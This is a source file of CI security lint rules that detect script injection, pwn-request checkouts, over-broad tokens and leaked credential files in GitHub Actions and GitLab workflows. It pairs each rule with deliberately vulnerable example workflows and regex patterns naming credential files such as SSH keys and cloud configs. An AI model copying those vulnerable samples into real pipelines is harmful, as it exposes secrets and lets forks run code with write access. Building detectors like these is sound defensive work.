        let action = lower(default(s.uses_ref.owner, "") + "/" + default(s.uses_ref.repo, ""))
        let tainted = filter(f in default(s.flows, []), f.context matches param.untrusted
          and not any(t in f.texts, t matches param.boolean_valued))
        let into_input = filter(f in tainted, starts_with(f.field, "with.")
          and (action + ":" + lower(replace(f.field, "with.", ""))) in param.code_inputs)
        let risky_run = filter(f in tainted, f.field == "run" and f.hops == 0)
        let risky_input = filter(f in into_input, f.hops == 0)
        let relayed_run = filter(f in tainted, f.field == "run" and f.hops > 0)
        let relayed_input = filter(f in into_input, f.hops > 0)
        # The fix (zizmor's): the expression moves into the step's `env` and the script reads the
        # variable. Offered only where that is sure to keep the script's meaning: one expression (in
        # every place the script expands it, written `${{ x }}` or `${{x}}`), a dotted context name, a
        # bash or sh step, no single quote on a line that expands it (`'${X}'` would not expand), no
        # quoted heredoc, and a variable name that nothing around the step uses yet.
        let fix_text = first(risky_run).text
        let fix_var = upper(replace(replace(replace(replace(lower(to_string(default(fix_text, ""))), "github.event.", ""), "github.", ""), ".", "_"), "-", "_"))
        require count(risky_run) == 0
          else "'${first(risky_run).text}' is expanded into a run script; an attacker controls its value" at first(risky_run)
          fix {
            for v in filter(v in [fix_var], all(f in risky_run, f.text == fix_text)
                and fix_text matches "^[A-Za-z][A-Za-z0-9_.-]*$" and v matches "^[A-Z][A-Z0-9_]*$"
                and lower(trim(to_string(default(s.shell, "")))) matches "^(ba)?sh(\\s|$)"
                and not any(l in split(to_string(s.run), "\n"), contains(l, fix_text) and contains(l, "'"))
                and not (to_string(s.run) matches "<<-?\\s*(['\"]|\\\\)")
                and not contains(to_string(s.run), "\$" + v) and not contains(to_string(s.run), "\${" + v)
                and not exists(s.env[v]) and not exists(first(s -> inJob).env[v])
                and not exists(first(s -> inJob -> inWorkflow).env[v])) {
              set s.run = replace(replace(to_string(s.run), "\${{ " + fix_text + " }}", "\${" + v + "}"),
                "\${{" + fix_text + "}}", "\${" + v + "}")
              insert s.env[v] = "\${{ " + fix_text + " }}"
            }
          }
        require count(risky_input) == 0
          else "'${first(risky_input).text}' is expanded into the '${replace(first(risky_input).field, "with.", "")}' input of ${s.uses_ref.owner}/${s.uses_ref.repo}, which runs it as code; an attacker controls its value" at first(risky_input)
        require count(relayed_run) == 0
          else "'${first(relayed_run).text}' is expanded into a run script and carries ${first(relayed_run).context}, which an attacker controls: ${first(relayed_run).path}" at first(relayed_run)
        require count(relayed_input) == 0
          else "'${first(relayed_input).text}' is expanded into the '${replace(first(relayed_input).field, "with.", "")}' input of ${s.uses_ref.owner}/${s.uses_ref.repo}, which runs it as code, and carries ${first(relayed_input).context}, which an attacker controls: ${first(relayed_input).path}" at first(relayed_input)

        example pass """
          on: pull_request_target
          jobs:
            greet:
              runs-on: ubuntu-24.04
              steps:
                - env:
                    TITLE: ${{ github.event.pull_request.title }}
                  run: echo "$TITLE"
                - run: echo "${{ github.sha }} ${{ github.event.pull_request.number }} ${{ github.event.pull_request.base.ref }}"
                - run: echo "${{ contains(github.event.pull_request.title, '[skip]') }} ${{ github.event.issue.title == 'x' }}"
                - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                  env:
                    BODY: ${{ github.event.comment.body }}
                  with:
                    script: console.log(process.env.BODY)
        """
        example pass "values relayed through env and outputs, then read as environment variables" """
          on: pull_request_target
          jobs:
            meta:
              runs-on: ubuntu-24.04
              env:
                BRANCH: ${{ github.head_ref }}
                IS_MAIN: ${{ github.head_ref == 'main' }}
              steps:
                - id: b
                  run: |
                    echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
                    echo "sha=${{ github.sha }}" >> "$GITHUB_OUTPUT"
                - env:
                    B: ${{ steps.b.outputs.branch }}
                  run: git checkout "$B" && echo "${{ steps.b.outputs.sha }} ${{ env.IS_MAIN }}"
        """
        example fail "relayed through env, GITHUB_OUTPUT, job outputs and needs" """
          on: pull_request_target
          jobs:
            meta:
              runs-on: ubuntu-24.04
              env:
                BRANCH: ${{ github.head_ref }}
              outputs:
                branch: ${{ steps.b.outputs.branch }}
              steps:
                - run: echo "↓${{ env.BRANCH }}"
                - id: b
                  run: echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
                - run: git checkout "↓${{ steps['b'].outputs['branch'] }}"
            deploy:
              needs: meta
              runs-on: ubuntu-24.04
              steps:
                - run: ./deploy.sh ↓${{ NEEDS.Meta.OUTPUTS.branch }}
        """ expect "'env.BRANCH' is expanded into a run script and carries github.head_ref, which an attacker controls: github.head_ref → env.BRANCH (job meta) → run (job meta, step 1)" expect "github.head_ref → env.BRANCH (job meta) → steps.b.outputs.branch → needs.meta.outputs.branch → run (job deploy, step 1)"
        example fail "relayed through GITHUB_ENV, github-script and the event file" """
          on: issue_comment
          jobs:
            triage:
              runs-on: ubuntu-24.04
              steps:
                - env:
                    BODY: ${{ github.event.comment.body }}
                  run: |
                    first=$(echo "$BODY" | head -n1)
                    echo "FIRST=$first" >> $GITHUB_ENV
                - run: echo "↓${{ ENV.first }}"
                - id: title
                  uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                  with:
                    script: |
                      const title = context.payload.issue.title
                      core.setOutput('title', title)
                - run: echo "↓${{ steps.title.outputs.title }}"
                - id: event
                  run: echo "ref=$(jq -r .issue.body "$GITHUB_EVENT_PATH")" >> "$GITHUB_OUTPUT"
                - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                  with:
                    script: console.log("↓${{ steps.event.outputs.ref }}")
        """ expect "carries github.event.comment.body" expect "github.event.comment.body → env.BODY (job triage, step 1) → env.FIRST (GITHUB_ENV, job triage, step 1) → run (job triage, step 2)" expect "context.payload → steps.title.outputs.title" expect "github.event.issue.body → $GITHUB_EVENT_PATH → steps.event.outputs.ref → with.script (job triage, step 6)"
        example fail "an artifact of another run" """
          on: workflow_run
          jobs:
            comment:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0
                  with:
                    name: pr
                    run-id: ${{ github.event.workflow_run.id }}
                    github-token: ${{ github.token }}
                - id: pr
                  run: echo "number=$(cat pr/number)" >> "$GITHUB_OUTPUT"
                - run: gh pr comment ↓${{ steps.pr.outputs.number }} --body done
        """ expect "carries artifact, which an attacker controls: artifact → artifact downloaded (job comment, step 1) → steps.pr.outputs.number"
        example fail "run script" """
          on: pull_request_target
          jobs:
            greet:
              runs-on: ubuntu-24.04
              steps:
                - run: |
                    echo "checking"
                    echo "↓${{ github.event.pull_request.title }}"
                - run: echo '↓${{ toJSON(github.event) }}' | jq .
                - run: git push origin "↓${{ github.head_ref }}"
                - run: echo '↓${{ toJSON(github.event.*.body) }}'

        """ expect "'github.event.pull_request.title' is expanded into a run script" expect "'toJSON(github.event)' is expanded"
        example fail "github-script" """
          on: issue_comment
          jobs:
            triage:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                  with:
                    script: |
                      const body = "↓${{ github.event.comment.body }}"
        """ expect "into the 'script' input of actions/github-script, which runs it as code"
        example fail "any spelling: GitHub reads context names and properties case-insensitively" """
          on: issues
          jobs:
            greet:
              runs-on: ubuntu-24.04
              steps:
                - run: echo "↓${{ GITHUB.EVENT.ISSUE.TITLE }}"
                - run: echo "↓${{ github.EVENT.issue.body }}"
                - run: echo "↓${{ GitHub.Event.Pull_Request.Head.Ref }}"
                - run: echo "↓${{ github['event']['issue']['title'] }}"
                - run: echo "↓${{ github.event['Comment'].BODY }}"
                - run: echo "↓${{github . head_ref}}"
                - run: echo '↓${{ toJSON(GITHUB.EVENT) }}'
        """ expect "'GITHUB.EVENT.ISSUE.TITLE' is expanded into a run script" expect "'github['event']['issue']['title']' is expanded"
      }

      """#),
    PolicySource(
      path: "rules/security/github/token_permissions_undeclared.plumb",
      text: #"""
      rule token_permissions_undeclared {
        title "Jobs declare their token permissions"
        severity medium
        category security
        tags [github-actions, least-privilege, "unsafe-fix"]
        rationale """
          A job with no `permissions` in the job or the workflow gets the repository's default
          GITHUB_TOKEN permissions: read-write on every scope in repositories created before February
          2023 and in many organisations, so any step (or a compromised action) can push code or
          publish releases. What the job gets then changes with a setting nobody reviews with the
          workflow. Jobs of a workflow that is only `workflow_call`ed take their caller's permissions and
          are not reported; jobs that call a reusable workflow are, since the caller decides.
        """
        remediation "Add `permissions: {contents: read}` at the top of the workflow (or `permissions: {}`), and grant write scopes on the jobs that need them."

        for j in github.job
        let workflow = first(j -> inWorkflow)
        let reusable_only = workflow.triggers == ["workflow_call"]
        when not (reusable_only and type(j) == "steps")
        require j.permissions_kind != "missing" or workflow.permissions_kind != "missing"
          else "job '${j.id}' runs with the repository's default token permissions: neither the job nor the workflow sets 'permissions'" at j.id
          fix { set workflow.permissions = {contents: "read"} }

        example pass """
          on: pull_request
          permissions:
            contents: read
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - run: make test
        """
        example pass "job-level permissions; a reusable-only workflow's steps job" {
          file ".github/workflows/ci.yml" """
            on: push
            jobs:
              test:
                runs-on: ubuntu-24.04
                permissions:
                  contents: read
                steps:
                  - run: make test
          """
          file ".github/workflows/lib.yml" """
            on: workflow_call
            jobs:
              lint:
                runs-on: ubuntu-24.04
                steps:
                  - run: make lint
          """
        }
        example fail """
          on: pull_request
          jobs:
            ↓test:
              runs-on: ubuntu-24.04
              steps:
                - run: make test
            ↓deploy:
              uses: ./.github/workflows/deploy.yml
        """ expect "job 'test' runs with the repository's default token permissions" expect "job 'deploy'"
      }

      """#),
    PolicySource(
      path: "rules/security/github/unsound_if_condition.plumb",
      text: #"""
      rule unsound_if_condition {
        title "if: conditions are a single expression, not text around one"
        severity high
        category security
        tags [github-actions, conditions]
        rationale """
          GitHub evaluates `if:` as an expression only when the whole value is one `${{ … }}`. Anything
          else around it (text, `&&` outside the braces, a space, or the newline a `|` or `>` block adds
          at the end) turns the value into a non-empty string, which is always true: the gate meant to
          keep a deploy, release or secret-using step away from forks silently lets everything through.
        """
        remediation "Write the condition as one expression: `if: ${{ a && b }}` or without braces `if: a && b`; for block scalars use `|-` or `>-`, which drop the final newline."
        param unsound: pattern = "(?s)^(?=.*\\$\\{\\{)(?!\\$\\{\\{((?!\\}\\}).)*\\}\\}\\z)"

        for j in github.job
        let step_ifs = filter(i in map(i, st in default(j.steps, []), i), to_string(default(j.steps[i]["if"], "")) matches param.unsound)
        require not (to_string(default(j["if"], "")) matches param.unsound)
          else "the condition of job '${j.id}' is always true: '${replace(to_string(j["if"]), "\n", "\\n")}' is text around an expression" at j["if"]
          # Only text around a single expression (`|` block scalars end with a line break) is removed;
          # a condition that is still unsound without it gets no fix.
          fix { for v in filter(v in [trim(to_string(j["if"]))], not (v matches param.unsound)) { set j["if"] = v } }
        require count(step_ifs) == 0
          else "the condition of step ${first(step_ifs) + 1} in job '${j.id}' is always true: '${replace(to_string(j.steps[first(step_ifs)]["if"]), "\n", "\\n")}' is text around an expression (${count(step_ifs)} such step(s) in the job)" at j.steps[first(step_ifs)]["if"]
          fix {
            for i in filter(i in step_ifs, all(x in step_ifs, not (trim(to_string(j.steps[x]["if"])) matches param.unsound))) {
              set j.steps[i]["if"] = trim(to_string(j.steps[i]["if"]))
            }
          }

        example pass """
          on: push
          jobs:
            deploy:
              if: ${{ github.ref == 'refs/heads/main' && github.event_name == 'push' }}
              runs-on: ubuntu-24.04
              steps:
                - if: github.event_name == 'push'
                  run: ./deploy.sh
                - if: |-
                    ${{ success() }}
                  run: ./notify.sh
        """
        example fail """
          on: push
          jobs:
            deploy:
              if: ↓|
                ${{ github.ref == 'refs/heads/main' }}
              runs-on: ubuntu-24.04
              steps:
                - if: ↓${{ github.event_name == 'push' }} && ${{ github.ref == 'refs/heads/main' }}
                  run: ./deploy.sh
        """ expect "the condition of job 'deploy' is always true: '${{ github.ref == 'refs/heads/main' }}\\n' is text around an expression" expect "the condition of step 1 in job 'deploy' is always true"
      }

      """#),
    PolicySource(
      path: "rules/security/github/untrusted_checkout_in_privileged_workflow.plumb",
      text: #"""
      rule untrusted_checkout_in_privileged_workflow {
        title "Privileged workflows do not check out pull request code"
        severity high
        category security
        tags [github-actions, pwn-request, injection]
        rationale """
          `pull_request_target`, `workflow_run` and `issue_comment` workflows run in the context of the
          base repository, with secrets and a token that can write, even when a fork's pull request
          triggered them. Checking out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`,
          `github.head_ref`, `workflow_run.head_sha`, `refs/pull/N/head`, `gh pr checkout`) and then
          building, testing or even running `npm install` on it executes the attacker's code with
          those secrets: the "pwn request" behind many repository takeovers.
        """
        remediation """
          Build untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass
          results to the privileged workflow as artifacts that are treated as data; or gate the job on
          a maintainer-applied label and check out only the reviewed commit, without secrets in that job.
        """
        param triggers: list<string> = ["pull_request_target", "workflow_run", "issue_comment"]
        param pr_ref: pattern = "(?i)(head[._](sha|ref|branch|label)|head_commit|merge_commit_sha|refs/pull/|pull/[^/ ]+/(head|merge))"

        for s in github.step
        let wf = first(s -> inJob -> inWorkflow)
        let trigger = first(filter(t in default(wf.triggers, []), t in param.triggers))
        when exists(trigger)
        let checkout = lower(default(s.uses_ref.owner, "")) == "actions" and lower(default(s.uses_ref.repo, "")) == "checkout"
        require not (checkout and to_string(default(s.with.ref, "")) matches param.pr_ref)
          else "job '${s.job}' checks out '${s.with.ref}', the pull request's code, in a workflow triggered by ${trigger}" at s.with.ref
        require not (checkout and to_string(default(s.with.repository, "")) matches "(?i)head\\.repo\\.(full_name|name)|head_repository\\.(full_name|name)")
          else "job '${s.job}' checks out the fork '${s.with.repository}' in a workflow triggered by ${trigger}" at s.with.repository
        require not (to_string(default(s.run, "")) matches "(?m)(\\bgh\\s+pr\\s+checkout\\b|^(?>.*?\\bgit\\s+(?:fetch|pull)\\b).*pull/)")
          else "job '${s.job}' fetches the pull request's code in a run script, in a workflow triggered by ${trigger}" at s.run

        example pass """
          on: pull_request_target
          jobs:
            label:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                  with:
                    persist-credentials: false
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                  with:
                    ref: ${{ github.event.pull_request.base.sha }}
        """
        example pass "a pull_request workflow may test the head" """
          on: pull_request
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                  with:
                    ref: ${{ github.event.pull_request.head.sha }}
        """
        example fail "pull_request_target" """
          on: pull_request_target
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                  with:
                    ref: ↓${{ github.event.pull_request.head.sha }}
                    repository: ↓${{ github.event.pull_request.head.repo.full_name }}
                - run: npm ci && npm test
        """ expect "job 'test' checks out '${{ github.event.pull_request.head.sha }}', the pull request's code, in a workflow triggered by pull_request_target" expect "checks out the fork"
        example fail "workflow_run and issue_comment" """
          on:
            workflow_run:
              workflows: [ci]
              types: [completed]
            issue_comment:
              types: [created]
          jobs:
            report:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                  with:
                    ref: ↓${{ github.event.workflow_run.head_sha }}
                - run: ↓|
                    gh pr checkout ${{ github.event.issue.number }}
                    make
        """ expect "in a workflow triggered by workflow_run" expect "fetches the pull request's code in a run script"
      }

      """#),
    PolicySource(
      path: "rules/security/github/workflow_level_write_permissions.plumb",
      text: #"""
      rule workflow_level_write_permissions {
        title "Write scopes are granted per job, not to the whole workflow"
        severity medium
        category security
        tags [github-actions, least-privilege]
        rationale """
          Scopes in the workflow's top-level `permissions` go to every job that does not set its own.
          `contents: write` or `id-token: write` granted there for the one job that releases also reaches
          the lint and test jobs and every action they run: a compromised test dependency can then push
          to the repository or mint an OIDC token for your cloud accounts. A workflow with a single job,
          or whose jobs all set their own permissions, is not reported.
        """
        remediation "Set the top-level `permissions` to `{contents: read}` (or `{}`) and move each write scope to the job that needs it."

        for w in github.workflow
        let inheriting = filter(k in keys(w.jobs), not exists(w.jobs[k].permissions))
        when w.permissions_kind == "scoped" and count(w.jobs) > 1 and count(inheriting) > 0
        require count(w.write_scopes) == 0
          else "the workflow grants write on '${join(w.write_scopes, "', '")}' to every job that sets no permissions of its own (${join(inheriting, ", ")})" at w.permissions[first(w.write_scopes)]

        example pass """
          on: push
          permissions:
            contents: read
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - run: make test
            publish:
              runs-on: ubuntu-24.04
              permissions:
                contents: read
                id-token: write
              steps:
                - run: make publish
        """
        example pass "a single job" """
          on: push
          permissions:
            contents: write
          jobs:
            release:
              runs-on: ubuntu-24.04
              steps:
                - run: make release
        """
        example fail """
          on: push
          permissions:
            contents: read
            id-token: ↓write
            packages: write
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - run: make test
            publish:
              runs-on: ubuntu-24.04
              steps:
                - run: make publish
        """ expect "the workflow grants write on 'id-token', 'packages' to every job that sets no permissions of its own (test, publish)"
      }

      """#),
    PolicySource(
      path: "rules/security/github/workflow_write_all_permissions.plumb",
      text: #"""
      rule workflow_write_all_permissions {
        title "Jobs do not run with a write-all token"
        severity high
        category security
        tags [github-actions, least-privilege, "unsafe-fix"]
        rationale """
          `permissions: write-all` gives the job's GITHUB_TOKEN write access to every scope: any step
          (or a compromised action) can push code, rewrite releases and tags, publish packages, approve
          pull requests and mint OIDC tokens for your cloud accounts. A job should ask for the scopes it
          uses. (Jobs with no `permissions` anywhere are reported by `token_permissions_undeclared`.)
        """
        remediation "Replace `write-all` with the scopes the job needs, e.g. `permissions: {contents: read}` at the top of the workflow and `contents: write` on the one job that pushes."

        for j in github.job
        let workflow = first(j -> inWorkflow)
        require j.permissions_kind != "write-all"
          else "job '${j.id}' asks for a write-all token" at j.permissions
          fix { set j.permissions = {contents: "read"} }
        require j.permissions_kind != "missing" or workflow.permissions_kind != "write-all"
          else "job '${j.id}' inherits the workflow's write-all token" at workflow.permissions
          fix { set workflow.permissions = {contents: "read"} }

        example pass """
          on: push
          permissions:
            contents: read
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make
            release:
              runs-on: ubuntu-24.04
              permissions:
                contents: write
              steps:
                - run: make release
        """
        example fail "inherits write-all" """
          on: push
          permissions: ↓write-all
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make
        """ expect "job 'build' inherits the workflow's write-all token"
        example fail "asks for write-all" """
          on: push
          permissions: {}
          jobs:
            build:
              runs-on: ubuntu-24.04
              permissions: ↓write-all
              steps:
                - run: make
        """ expect "job 'build' asks for a write-all token"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/artifacts_include_credentials.plumb",
      text: #"""
      rule artifacts_include_credentials {
        title "Job artifacts do not include credential files"
        severity high
        category security
        tags [gitlab-ci, secrets, artifacts]
        rationale """
          Artifacts are uploaded to GitLab, downloadable by everyone who can read the pipeline (in public
          projects, by anyone unless `artifacts:access` restricts them), and passed to later jobs.
          Paths such as `.env`, `.npmrc`, `.pypirc`, `.netrc`, `.git-credentials`, `.docker/config.json`,
          `.kube/config`/`kubeconfig`, `.aws/`, `.ssh/`, private keys (`id_rsa`, `*.pem`, `*.key`,
          `*.p12`, `*.jks`), service-account `credentials.json`, Terraform state (`*.tfstate`) or the
          `.git` directory (whose config can hold a remote URL with a token) hold credentials the job
          wrote or used. Example and template files (`.env.example`) are not reported.
        """
        remediation "Remove the path from `artifacts:paths` (list the build outputs you need instead), keep credentials outside the project directory, and use `artifacts:exclude` for files a wildcard would catch."
        param credential_path: pattern = "(?i)(^|/)(\\.env(\\.(?!example|sample|template|dist|defaults?)[a-z0-9_-]+)?|\\.npmrc|\\.pypirc|\\.netrc|_netrc|\\.git-credentials|\\.docker/config\\.json|\\.dockercfg|\\.kube/config|kubeconfig(\\.ya?ml)?|\\.aws(/credentials)?|\\.ssh|id_(rsa|dsa|ecdsa|ed25519)|[^/]*\\.(pem|key|p12|pfx|jks|keystore)|credentials\\.json|service[-_]account[^/]*\\.json|[^/]*\\.tfstate(\\.backup)?|\\.terraform|\\.git)/?$"

        for j in gitlab.job
        let found = filter(p in default(j.artifacts.paths, []), to_string(p) matches param.credential_path)
        require count(found) == 0
          else "job '${j.name}' uploads '${first(found)}' as an artifact, a file that holds credentials" at first(found)

        example pass """
          build:
            script: [make]
            artifacts:
              paths:
                - dist/
                - .env.example
                - reports/*.xml
        """
        example fail "dotenv and keys" """
          build:
            script: [./configure > .env]
            artifacts:
              paths:
                - dist/
                - ↓.env
          sign:
            script: [./sign.sh]
            artifacts:
              paths: [↓certs/signing.key]
        """ expect "job 'build' uploads '.env' as an artifact" expect "job 'sign' uploads 'certs/signing.key'"
        example fail "state, kubeconfig, .git" """
          plan:
            script: [terraform apply]
            artifacts:
              paths: [↓infra/terraform.tfstate]
          kube:
            script: [./get-config.sh]
            artifacts:
              paths: [↓$CI_PROJECT_DIR/.kube/config]
          everything:
            script: [make]
            artifacts:
              paths: [↓.git/]
        """ expect "job 'plan'" expect "job 'kube'" expect "job 'everything'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/artifacts_untracked.plumb",
      text: #"""
      rule artifacts_untracked {
        title "Job artifacts do not upload every untracked file"
        severity medium
        category security
        tags [gitlab-ci, secrets, artifacts]
        rationale """
          `artifacts: untracked: true` uploads every file in the project directory that Git does not
          track: besides build outputs, the credential files the job or its tools wrote (`.npmrc`,
          `.netrc`, `.docker/config.json`, kubeconfigs, `.env`, downloaded keys, Terraform state).
          Artifacts are readable by everyone who can read the pipeline and passed to later jobs.
        """
        remediation "List the outputs you need in `artifacts:paths` instead of `untracked: true`, or add `artifacts:exclude` for every credential file."

        for j in gitlab.job
        require default(j.artifacts.untracked, false) != true or count(default(j.artifacts.exclude, [])) > 0
          else "job '${j.name}' uploads every untracked file as an artifact, credential files the job wrote included" at j.artifacts.untracked

        example pass """
          build:
            script: [make]
            artifacts:
              paths: [dist/]
          scoped:
            script: [make]
            artifacts:
              untracked: true
              exclude: [.npmrc, "**/*.key"]
        """
        example fail """
          build:
            script: [make]
            artifacts:
              untracked: ↓true
              expire_in: 1 week
        """ expect "job 'build' uploads every untracked file"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/cache_includes_credentials.plumb",
      text: #"""
      rule cache_includes_credentials {
        title "Caches do not include credential files"
        severity medium
        category security
        tags [gitlab-ci, secrets, cache]
        rationale """
          A cache is restored into later jobs and pipelines (of other branches too, when the key and
          protection allow) and kept on runner storage: a credential file in it (`.npmrc`, `.netrc`,
          `.docker/config.json`, `.kube/config`, `.aws/`, `.ssh/`, private keys, `.env`, Terraform
          state, the `.git` directory) reaches every job that restores it, including jobs of merge
          requests from people who should never see it.
        """
        remediation "Cache only downloaded dependencies (`node_modules/`, `.cache/pip`), never files with credentials; write credentials in the job that needs them."
        param credential_path: pattern = "(?i)(^|/)(\\.env(\\.(?!example|sample|template|dist|defaults?)[a-z0-9_-]+)?|\\.npmrc|\\.pypirc|\\.netrc|_netrc|\\.git-credentials|\\.docker(/config\\.json)?|\\.dockercfg|\\.kube(/config)?|kubeconfig(\\.ya?ml)?|\\.aws(/credentials)?|\\.ssh|\\.gnupg|id_(rsa|dsa|ecdsa|ed25519)|[^/]*\\.(pem|key|p12|pfx|jks|keystore)|credentials\\.json|[^/]*\\.tfstate(\\.backup)?|\\.git)/?$"

        for j in gitlab.job
        let paths = flatten([default(j.cache.paths, []), flatten(map(c in default(j.cache, []), default(c.paths, [])))])
        let found = filter(p in paths, to_string(p) matches param.credential_path)
        require count(found) == 0
          else "job '${j.name}' caches '${first(found)}', a file that holds credentials" at first(found)

        example pass """
          build:
            cache:
              key: $CI_COMMIT_REF_SLUG
              paths: [node_modules/, .npm/]
            script: [npm ci]
        """
        example fail "one cache" """
          build:
            cache:
              key: deps
              paths:
                - vendor/
                - ↓.npmrc
            script: [npm ci]
        """ expect "job 'build' caches '.npmrc', a file that holds credentials"
        example fail "a list of caches, from default" """
          default:
            cache:
              - key: go
                paths: [.go/]
              - key: tools
                paths: [↓.docker/]
          build:
            script: [make]
        """ expect "job 'build' caches '.docker/'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/cache_unprotected.plumb",
      text: #"""
      rule cache_unprotected {
        title "Caches of protected branches are not shared with unprotected ones"
        severity high
        category security
        tags [gitlab-ci, cache, artifact-integrity]
        rationale """
          GitLab keeps the caches of protected branches and tags apart from those of other branches, so
          that a pipeline of a pushed branch or merge request cannot write files that a release or
          deploy job later restores and runs (cache poisoning: a planted `node_modules/.bin` script, a
          patched dependency, a build tool). `cache: unprotect: true` removes that separation: any
          developer's branch (and a merge request's code) writes the cache that protected pipelines use.
        """
        remediation "Remove `unprotect: true`; if protected and unprotected pipelines must share downloaded dependencies, key the cache by the lock file (`key: files: [package-lock.json]`) and verify what is restored (`npm ci` checks the lock file's integrity hashes)."

        for j in gitlab.job
        let single = default(j.cache.unprotect, false) == true
        let listed = filter(c in default(j.cache, []), default(c.unprotect, false) == true)
        require not single
          else "job '${j.name}' shares its cache '${default(j.cache.key, "default")}' between protected and unprotected branches: any pushed branch can poison it" at j.cache.unprotect
          fix { remove j.cache.unprotect }
        require count(listed) == 0
          else "job '${j.name}' shares its cache '${default(first(listed).key, "default")}' between protected and unprotected branches: any pushed branch can poison it" at first(listed).unprotect
          fix {
            for i in filter(i in map(i, c in default(j.cache, []), i), default(j.cache[i].unprotect, false) == true) {
              remove j.cache[i].unprotect
            }
          }

        example pass """
          build:
            cache:
              key: $CI_COMMIT_REF_SLUG
              paths: [node_modules/]
            script: [npm ci]
        """
        example fail "one cache" """
          build:
            cache:
              key: deps
              paths: [node_modules/]
              unprotect: ↓true
            script: [npm ci]
        """ expect "job 'build' shares its cache 'deps' between protected and unprotected branches"
        example fail "a list of caches from default" """
          default:
            cache:
              - key: gems
                paths: [vendor/ruby]
                unprotect: ↓true
          test:
            script: [rake]
        """ expect "job 'test' shares its cache 'gems'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/ci_debug_services_enabled.plumb",
      text: #"""
      rule ci_debug_services_enabled {
        title "GitLab jobs do not log service containers' output"
        severity low
        category security
        tags [gitlab-ci, logging, secrets]
        rationale """
          `CI_DEBUG_SERVICES: "true"` copies the output of every service container (databases,
          `docker:dind`, mock servers) into the job log. Service containers receive the job's variables,
          and their startup output often prints configuration, passwords given through variables and
          connection strings; the job log is readable by every developer (in public projects, by anyone).
          Reported for jobs with `services:` (for the others the variable changes nothing).
        """
        remediation "Remove the variable, or set it for one manual run while debugging and delete that job's log afterwards."

        for j in gitlab.job
        when count(j.services_refs) > 0
        let pipeline = first(j -> inPipeline)
        let job_value = default(j.variables.CI_DEBUG_SERVICES.value, j.variables.CI_DEBUG_SERVICES)
        let global_value = default(pipeline.variables.CI_DEBUG_SERVICES.value, pipeline.variables.CI_DEBUG_SERVICES)
        require lower(trim(to_string(default(job_value, "")))) != "true"
          else "job '${j.name}' sets CI_DEBUG_SERVICES to true: its log shows the service containers' output" at job_value
          fix { remove j.variables["CI_DEBUG_SERVICES"] }
        require exists(job_value) or lower(trim(to_string(default(global_value, "")))) != "true"
          else "job '${j.name}' runs with CI_DEBUG_SERVICES set to true for the whole pipeline: its log shows the service containers' output" at global_value
          fix { remove pipeline.variables["CI_DEBUG_SERVICES"] }

        example pass """
          variables:
            CI_DEBUG_SERVICES: "false"
          test:
            services: [postgres:16]
            script: [rake]
        """
        example pass "no services" """
          variables:
            CI_DEBUG_SERVICES: "true"
          lint:
            script: [make lint]
        """
        example fail "job" """
          test:
            variables:
              CI_DEBUG_SERVICES: ↓"true"
            services: [postgres:16]
            script: [rake]
        """ expect "job 'test' sets CI_DEBUG_SERVICES to true"
        example fail "global, mapping form" """
          variables:
            CI_DEBUG_SERVICES:
              value: ↓"TRUE"
              description: debug services
          test:
            services:
              - name: redis:7
                alias: cache
            script: [rake]
        """ expect "job 'test' runs with CI_DEBUG_SERVICES set to true for the whole pipeline"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/ci_debug_trace_enabled.plumb",
      text: #"""
      rule ci_debug_trace_enabled {
        title "GitLab jobs do not enable debug tracing"
        severity high
        category security
        tags [gitlab-ci, secrets]
        rationale """
          `CI_DEBUG_TRACE: "true"` makes the runner print every shell command with its expanded values
          and the job's environment: every CI/CD variable, masked or not, deploy keys, cloud credentials
          and the job token end up in the job log, which every developer (and, in public projects,
          anyone) can read and which is kept as long as the job. (`CI_DEBUG_SERVICES`, which only adds
          service containers' own logs, is reported by `ci_debug_services_enabled`.) Reported wherever the
          file sets variables: the job's and the pipeline's `variables:`, a job's `rules: variables:` and
          `workflow: rules: variables:`.
        """
        remediation "Remove the variable from the file (the fix does; it changes nothing but the log); to debug a job, set `CI_DEBUG_TRACE` for one manual pipeline run and restrict who can read its log."

        for j in gitlab.job
        let pipeline = first(j -> inPipeline)
        let job_on = filter(k in keys(default(j.variables, {})), k == "CI_DEBUG_TRACE"
          and lower(trim(to_string(default(j.variables[k].value, j.variables[k])))) == "true")
        let global_on = filter(k in keys(default(pipeline.variables, {})), k == "CI_DEBUG_TRACE"
          and lower(trim(to_string(default(pipeline.variables[k].value, pipeline.variables[k])))) == "true")
        require count(job_on) == 0
          else "job '${j.name}' sets ${first(job_on)} to true: its log shows every variable, masked ones included" at default(j.variables[first(job_on)].value, j.variables[first(job_on)])
